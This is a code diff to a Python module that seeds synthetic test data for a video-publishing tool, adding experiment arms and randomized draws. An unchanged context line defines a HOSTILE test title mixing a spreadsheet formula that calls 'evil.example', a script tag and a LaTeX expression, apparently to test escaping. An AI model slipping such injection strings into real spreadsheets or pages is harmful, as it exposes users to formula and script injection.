@@ -8,6 +8,7 @@ from typing import Any
 
 import sqlalchemy as sa
 
+from viral_forge_resources.contracts.experiments import Arm, Reason, Rules
 from viral_forge_resources.contracts.keys import short_hash
 from viral_forge_resources.contracts.metrics import (
     AGES,
@@ -30,6 +31,8 @@ from viral_forge_resources.state.tables import (
     channels,
     clips,
     cost_events,
+    draws,
+    experiments,
     niches,
     post_metrics,
     publications,
@@ -43,6 +46,7 @@ HOSTILE = '=cmd("https://evil.example") <script>alert(1)</script> $\\frac{1}{0}$
 """A title that would run in a spreadsheet, in a page and in a formula, and needs other fonts."""
 
 _CHANNELS = ("youtube:kitchen", "youtube:orbit", "tiktok:kitchen")
+_TURNS = ("youtube:kitchen", "youtube:orbit", "youtube:kitchen", "tiktok:kitchen")
 _NICHE_OF = {"youtube:kitchen": "cooking", "tiktok:kitchen": "cooking", "youtube:orbit": "space"}
 _RECIPES = {"clean": 0.0, "talk": 0.12, "noir": -0.1}
 _HOUR = timedelta(hours=1)
@@ -68,12 +72,15 @@ def fill(state: sa.Engine, scale: Scale | None = None) -> None:
     scale = scale or Scale()
     dice = random.Random(scale.seed)  # noqa: S311  the same studio every time
     made = [_post(number, scale, dice) for number in range(scale.posts)]
+    tried = [post for post in made if post["candidate"]["niche"] == "cooking"]
     with state.begin() as connection:
         connection.execute(sa.insert(niches), [_niche(name) for name in ("cooking", "space")])
         connection.execute(sa.insert(channels), [_channel(name) for name in _CHANNELS])
         for table, name in _TABLES:
             connection.execute(sa.insert(table), [post[name] for post in made])
         connection.execute(sa.insert(sightings), list(_seen(scale, dice)))
+        connection.execute(sa.insert(experiments), _experiment())
+        connection.execute(sa.insert(draws), [_draw(*each) for each in enumerate(tried, 1)])
         for post in made:
             rows = list(_readings(post["publication"], post["quality"], scale, dice))
             if rows:
@@ -104,8 +111,25 @@ def _channel(channel_id: str) -> dict[str, Any]:
     }  # fmt: skip
 
 
+def _experiment() -> dict[str, Any]:
+    return {
+        "experiment_id": "trial", "niche": "cooking", "rules": Rules(), "started_by": "ada",
+        "arms": tuple(Arm(name=recipe, recipe=recipe) for recipe in _RECIPES),
+        "started_at": END - timedelta(days=90),
+    }  # fmt: skip
+
+
+def _draw(number: int, post: Mapping[str, Any]) -> dict[str, Any]:
+    return {
+        "experiment_id": "trial", "candidate_key": post["candidate"]["candidate_key"],
+        "number": number, "arm": post["clip"]["recipe"], "probability": 1 / 3,
+        "probabilities": {}, "reason": Reason.LEARNED, "posterior": "p", "seed": "s",
+        "drawn_at": post["clip"]["rendered_at"] - _HOUR,
+    }  # fmt: skip
+
+
 def _post(number: int, scale: Scale, dice: random.Random) -> dict[str, Any]:
-    channel = _CHANNELS[number % len(_CHANNELS)]
+    channel = _TURNS[number % len(_TURNS)]
     niche, recipe = _NICHE_OF[channel], dice.choice(list(_RECIPES))
     key, sha256 = f"{niche}:inbox:video-{number}", short_hash(f"content {number}", length=64)
     posted = END - timedelta(days=scale.days) * (1 - (number + 0.5) / scale.posts)
